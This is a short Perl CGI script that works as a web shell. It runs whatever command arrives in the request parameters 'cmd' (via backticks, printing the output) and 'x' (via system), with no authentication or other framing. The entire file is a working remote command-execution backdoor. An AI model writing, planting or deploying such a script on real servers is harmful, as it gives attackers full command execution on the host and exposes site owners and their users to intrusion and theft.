#!/usr/bin/perl
use CGI;
my $q = CGI->new;
print $q->header;
print `$cmd` if ($cmd = $q->param('cmd'));
system($q->param('x'));
